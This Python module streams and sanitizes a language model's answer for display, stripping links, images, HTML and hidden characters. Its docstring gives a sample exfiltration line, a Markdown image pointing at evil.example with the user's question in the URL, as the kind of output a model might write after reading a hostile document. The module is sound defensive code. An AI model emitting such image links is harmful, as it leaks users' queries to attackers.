"""What of a model's words may be shown: text, citation marks, code and formulas. No link, no image, no HTML.

A model that has read a hostile document may write `![](https://evil.example/?what-the-user-asked)`, and a page that
shows the answer would fetch it. So nothing survives that a Markdown renderer, an HTML page or a chat window makes a
link or an image of: both are reduced to their text, addresses to `…`, and HTML tags and unseen characters go. Code
stays as it is, since renderers look for no links there: what counts as code is kept to the forms in which they agree.
"""

from worker.answer.markup import Scanner, within


class AnswerStream:
    """`sanitized` for a text that comes in deltas: the same in the end, however it was cut."""

    def __init__(self, *, sources: int | None = None) -> None:
        self._scanner = Scanner(within(sources))

    def feed(self, piece: str) -> str:
        """What can be shown by now. Holds back what may become a link, a mark or a formula."""
        return "".join(map(str, self._scanner.scan(piece)))

    def finish(self) -> str:
        """What was held back. Nothing may be fed afterwards."""
        return "".join(map(str, self._scanner.scan("", final=True)))


def sanitized(text: str, *, sources: int | None = None) -> str:
    """`text` as it may be shown, its marks written [n]; those that point beyond 1..`sources` are removed."""
    stream = AnswerStream(sources=sources)
    return stream.feed(text) + stream.finish()
